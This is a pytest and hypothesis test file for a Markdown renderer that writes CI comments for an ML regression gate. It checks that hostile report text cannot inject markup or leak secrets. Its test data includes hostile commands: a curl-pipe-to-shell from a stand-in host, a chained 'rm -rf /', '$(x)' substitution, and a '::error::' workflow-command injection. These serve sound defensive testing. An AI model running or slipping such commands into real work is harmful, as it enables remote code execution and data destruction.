"""The comment, read by a real Markdown parser: text from data must never become anything but text."""

from __future__ import annotations

import html
import re
from collections import Counter
from dataclasses import replace
from functools import lru_cache

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from mlgate.outcome import Location, Outcome, Report, Status
from mlgate.render.markdown import MIN_BYTES, SHED, render_markdown
from mlgate.render.markdown_escape import code, inline, sentence
from mlgate.render.text import render_text
from tests.unit.render import reports
from tests.unit.render.strategies import texts

PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
OUR_TAGS = {"<br>", "<b>", "</b>", "<code>", "</code>", "<span>", "</span>"}
NEVER = {"link_open", "image", "em_open", "s_open", "code_block", "hr", "blockquote_open", "list_item_open"}
ACTIVE = re.compile(r"@\w|#\w|\bgh-\d|:\w+:|://|\bwww\.", re.IGNORECASE)
"""What GitHub turns into mentions, references, emoji and links outside code."""


@lru_cache(maxsize=4)  # each test asks several things of a page
def tokens(text: str) -> list[Token]:
    flat = []
    for token in PARSER.parse(text):
        flat.append(token)
        flat += token.children or []
    return flat


def structure(text: str) -> Counter[str]:
    """How many blocks of each kind there are; `<details>` counted by their tags, `<span>$</span>` not at all."""
    counted: Counter[str] = Counter()
    for token in tokens(text):
        if token.type == "html_block":
            counted.update(re.findall(r"</?[a-z]+", token.content.replace("<span>$</span>", "")))
        elif token.type.endswith("_open") or token.type in {*NEVER, "fence"}:
            counted[token.type] += 1
    return counted


def prose(text: str) -> str:
    """What is read outside code, after HTML is parsed."""
    return html.unescape(
        re.sub(r"<[^>]*>", "\n", re.sub(r"<code[^>]*>.*?</code>", "", PARSER.render(text), flags=re.DOTALL))
    )


def test_the_tests_can_see_an_attack() -> None:
    bad = "| a |\n|---|\n| @octocat [x](http://a.b) |\n\n## forged\n"
    assert structure(bad)["heading_open"] == 1
    assert structure(bad)["link_open"] == 1
    assert ACTIVE.search(prose(bad))


@lru_cache(maxsize=4)
def with_words(words: str, *, blocked: bool) -> str:
    """The comment whose every field holds the words."""
    report = reports.hostile(words)
    return render_markdown(report.with_outcomes(o for o in report.outcomes if blocked or not o.status.blocks))


@given(text=texts())
@example(text=reports.HOSTILE)
@pytest.mark.parametrize("blocked", [True, False])
def test_hostile_text_changes_nothing_but_the_words(text: str, blocked: bool) -> None:
    shown, harmless = with_words(text, blocked=blocked), with_words("harmless", blocked=blocked)
    found = structure(shown)
    assert found == structure(harmless)
    assert not NEVER & found.keys()
    assert found["fence"] == 1  # the change of a schema
    assert {token.content for token in tokens(shown) if token.type == "html_inline"} <= OUR_TAGS
    assert not ACTIVE.search(prose(shown))
    assert "<!--" not in shown
    assert len(shown.split("\n")) == len(harmless.split("\n"))
    assert all(character.isprintable() or character in "\n\u00a0" for character in shown)


@given(text=texts())
def test_escaped_text_reads_as_it_was_written(text: str) -> None:
    """Nothing is lost: the page shows the text with white space collapsed and unprintable characters as escapes."""
    plain = " ".join(text.split())
    shown = html.unescape(re.sub(r"<[^>]*>", "", PARSER.renderInline("x" + inline(text, 10_000))))[1:]
    if plain.isprintable() and not set(plain) & set("\u3164\u2800"):
        assert shown.replace("\u200b", "") == plain


@pytest.mark.parametrize("render", [inline, code, sentence])
@given(text=texts(max_parts=60), limit=st.integers(8, 300))
def test_an_escape_is_bounded_in_bytes(render: object, text: str, limit: int) -> None:
    assert callable(render)
    assert len(render(text, limit).encode()) <= 14 * limit + 40


def test_the_first_line_is_the_verdict() -> None:
    first = {name: render_markdown(make()).splitlines()[0] for name, make in reports.SAMPLES.items()}
    assert first["pass"] == "## \u2705 mlgate: nothing got worse"
    assert first["regressed"] == "## \u274c mlgate: readmission is worse in health=fair, accuracy down 6.1 points"
    assert first["baseline_gone"] == "## \U0001f6ab mlgate could not check readmission"
    assert first["all_skipped"] == "## \U0001f6ab mlgate checked nothing: every check was skipped"
    assert first["empty"] == "## \U0001f6ab mlgate checked nothing: no check was asked for"
    assert first["advisory"].startswith("## \u274c mlgate (nightly, advisory): readmission is worse")
    assert first["undecided"].startswith("## \u26a0\ufe0f mlgate: nothing is shown to be worse, but 2 comparisons")


def test_single_rows_of_data_are_never_shown() -> None:
    leaky = reports.outcome(
        "data/train/age/between",
        Status.FAIL,
        message="2 values are not between 0 and 120",
        observed="observed-secret",
        evidence={"judged": 5, "failing": 2, "rows": [{"row": 424242, "value": "value-secret", "key": "key-secret"}]},
    )
    text = render_markdown(reports.report(leaky))
    assert "2 values are not between" in text
    assert not re.search("secret|424242", text)


def test_uncommitted_changes_stand_beside_either_commit() -> None:
    text = render_markdown(reports.stopped())
    assert "commit `77aa0c3d5e6f` with uncommitted changes, 12 days old" in text
    assert "This run: commit `4f1c2d9a8b7e` with uncommitted changes." in text
    assert "with uncommitted changes" not in render_markdown(reports.regressed())


def test_an_accepted_regression_says_until_when_and_not_the_numbers_again() -> None:
    (row,) = (line for line in render_markdown(reports.named()).splitlines() if "accepted until" in line)
    assert row.endswith("| accepted until 2026-12-31 (known, being worked on) |")
    assert "fell by" not in row


def test_a_comparison_that_cannot_tell_is_shown_once_and_folded() -> None:
    text = render_markdown(reports.undecided())
    opened, _, folded = text.partition("<details>")
    assert "`sex=F`" not in opened
    assert folded.count("`sex=F`") == 1
    assert "about 14,200 rows needed" in folded


@pytest.mark.parametrize(
    "command", ["curl http://x.example | sh", "mlgate run; rm -rf /", "mlgate run\nx", "mlgate run $(x)"]
)
def test_a_strangers_command_is_not_repeated(command: str) -> None:
    text = render_markdown(reports.report(provenance={"command": command, "config": command}))
    assert "Reproduce locally: `mlgate run`\n" in text


def test_the_command_of_a_check_of_data_is_repeated_where_it_is_plain() -> None:
    plain = "mlgate data check data/a.csv --schema schemas/a.yaml"
    assert f"Reproduce locally: `{plain}`\n" in render_markdown(reports.report(provenance={"command": plain}))
    for odd in ("mlgate data check 'data/a b.csv'", "mlgate data check $(x)"):
        assert "Reproduce" not in render_markdown(reports.report(provenance={"command": odd}))


def test_slices_stand_worst_first_below_all_rows() -> None:
    lines = render_markdown(reports.regressed()).splitlines()
    rows = [line.split(" | ")[0] for line in lines if re.match(r"\| (all rows|`health=\w+`) \|", line)]
    assert rows[:4] == ["| all rows", "| `health=fair`", "| `health=poor`", "| `health=good`"]


# --- size -----------------------------------------------------------------------------------------------------------


def padded(n: int, text: str) -> Report:
    """A report in which everything is there `n` times with `text` in it."""
    whole = reports.hostile(text)
    many = [replace(outcome, id=f"{outcome.id}{i}") for i in range(n) for outcome in whole.outcomes]
    provenance = {**whole.provenance, "baselines": [*whole.provenance["baselines"]] * n}
    return replace(whole, outcomes=tuple(many), provenance=provenance)


@pytest.mark.parametrize("text", ["$" * 4000, "\U0001f600" * 4000, "|`<@" * 1000, "a b " * 1000, "\u202e" * 4000])
@pytest.mark.parametrize("max_bytes", [MIN_BYTES, 9000, 20_000, 60_000])
def test_the_comment_fits_and_stays_whole(text: str, max_bytes: int) -> None:
    shown = render_markdown(padded(30, text), max_bytes=max_bytes)
    found = structure(shown)
    assert len(shown.encode()) <= max_bytes
    assert found["<details"] == found["</details"]
    assert shown.startswith("## \u274c mlgate")
    whole = len(render_markdown(padded(30, text), max_bytes=10**9).encode())
    assert ("Left out to keep this comment short" in shown) == (whole > max_bytes)


@pytest.mark.parametrize("make", [reports.huge, reports.megabyte])
def test_a_huge_report_fits_in_a_comment(make: object) -> None:
    assert callable(make)
    shown = render_markdown(make())
    assert len(shown.encode()) <= 60_000
    assert "block" in shown


def test_what_is_shed_goes_in_the_documented_order() -> None:
    report = padded(30, "word " * 60)
    whole = render_markdown(report, max_bytes=10**9)
    assert "Left out" not in whole
    last: list[str] = []
    for max_bytes in range(MIN_BYTES, len(whole.encode()), 2000):
        shown = render_markdown(report, max_bytes=max_bytes)
        told = re.search(r"Left out to keep this comment short: (.*)\. The full", shown)
        left_out = told.group(1).split(", ") if told else []
        kept_order = [name for name in SHED if name in left_out]
        assert left_out == kept_order
        assert not last or set(left_out) <= {*last, "some slices"}
        last = left_out


def test_too_small_a_limit_is_refused() -> None:
    with pytest.raises(ValueError, match="at least"):
        render_markdown(reports.passing(), max_bytes=MIN_BYTES - 1)


def test_a_value_of_the_wrong_type_is_treated_as_absent() -> None:
    odd: Outcome = reports.accuracy({"sex": "F"}, 0.9, 0.8, 0.01)
    broken = {key: [{"x": 1}] for key in odd.evidence} | {"metric": "accuracy", "verdict": "regression"}
    line: int = "1\n::error::x"  # type: ignore[assignment]  # what a stranger's report.json may hold
    report = reports.report(
        replace(odd, evidence=broken, location=Location("a.yaml", line)),
        provenance={"baselines": "x", "tiers": [1, None], "datasets": {"a": 1}, "environment": [], "command": 5},
    )
    assert render_markdown(report).startswith("## \u274c mlgate")
    text = render_text(report)
    assert "at: a.yaml\n" in text
    assert "::error" not in text
